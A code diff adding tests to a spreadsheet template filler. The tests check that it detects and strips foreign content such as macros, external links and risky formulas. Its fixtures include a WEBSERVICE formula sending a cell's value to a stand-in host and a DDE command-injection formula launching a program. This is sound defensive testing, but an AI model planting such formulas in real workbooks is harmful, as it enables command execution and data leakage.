@@ -72,6 +72,70 @@ describe('one’s own workbook', () => {
     expect(await fillWorkbook(withChart, values)).toMatchObject({ ok: true, lost: ['graphiques'] })
   })
 
+  test('of a stranger is named by what acts in it, and filled without it on request', async () => {
+    const bytes = await template((workbook, sheet) => {
+      workbook.definedNames.add("'Mon suivi'!$B$1", 'total_conventions_recu')
+      sheet.getCell('A1').value = {
+        formula: 'WEBSERVICE("https://exemple.invalid/"&B1)',
+        result: 'reçu',
+        date1904: false,
+      }
+      sheet.getCell('A2').value = { formula: "cmd|'/c calc'!A0", result: 12, date1904: false }
+      sheet.getCell('A3').value = { formula: "'[Autre.xlsx]Feuil1'!B2", result: 34, date1904: false }
+      sheet.getCell('A4').value = { text: 'le partage', hyperlink: 'file://serveur/partage/x.exe' }
+      sheet.getCell('A5').value = { text: 'le site', hyperlink: 'https://www.exemple.test/' }
+      sheet.getCell('A6').value = { formula: 'SUM(B1:B2)', result: 0, date1904: false }
+      sheet.getCell('A7').dataValidation = { type: 'list', formulae: ["'[Autre.xlsx]Feuil1'!A1:A9"] }
+    })
+    const strange = zipSync({
+      ...unzipSync(bytes),
+      'xl/vbaProject.bin': strToU8('x'),
+      'xl/macrosheets/sheet1.xml': strToU8('<x/>'),
+    })
+    const refused = await fillWorkbook(strange, values)
+    expect(refused).toMatchObject({ ok: false, code: 'template.foreign' })
+    expect('foreign' in refused ? refused.foreign.map((part) => part.kind) : []).toEqual([
+      'macros',
+      'odd-links',
+      'formulas',
+    ])
+    const filled = await fillWorkbook(strange, values, { withoutForeign: true })
+    if (!filled.ok) throw new Error(filled.code)
+    const sheet = sheetOf(await readBack(filled.bytes), 'Mon suivi')
+    expect(['A1', 'A2', 'A3', 'A4'].map((at) => sheet.getCell(at).value)).toEqual([
+      'reçu',
+      12,
+      34,
+      'le partage',
+    ])
+    expect(sheet.getCell('A5').hyperlink).toBe('https://www.exemple.test/')
+    expect(sheet.getCell('A6').formula).toBe('SUM(B1:B2)')
+    expect(filled.removed.map((part) => part.kind)).toEqual(['macros', 'odd-links', 'formulas'])
+    const all = Object.values(unzipSync(filled.bytes))
+      .map((part) => Buffer.from(part).toString('latin1'))
+      .join()
+    expect(all).not.toMatch(/WEBSERVICE|cmd\||Autre\.xlsx|partage\/x\.exe|vbaProject/)
+  })
+
+  test('whose text only looks like a formula that goes out is a person’s own', async () => {
+    const bytes = await template((workbook, sheet) => {
+      workbook.definedNames.add("'Mon suivi'!$B$1", 'total_conventions_recu')
+      sheet.getCell('A1').value = {
+        formula: 'IF(B1>0,"[reçu]|ok!","à voir")',
+        result: 'à voir',
+        date1904: false,
+      }
+      sheet.getCell('A2').value = {
+        formula: 'HYPERLINK("#\'Mon suivi\'!B1","voir")',
+        result: 'voir',
+        date1904: false,
+      }
+      sheet.getCell('A3').value = { formula: "'Mon suivi'!B1*2", result: 2, date1904: false }
+      sheet.getCell('A4').value = 'WEBSERVICE( et cmd|x!A0 écrits en toutes lettres'
+    })
+    expect(await fillWorkbook(bytes, values)).toMatchObject({ ok: true, removed: [] })
+  })
+
   test('names serve every year, and each is listed with what it holds', () => {
     const names = templateFields(report).map((f) => f.name)
     expect(names).toContain('produits_par_exercice_produit_exercice')
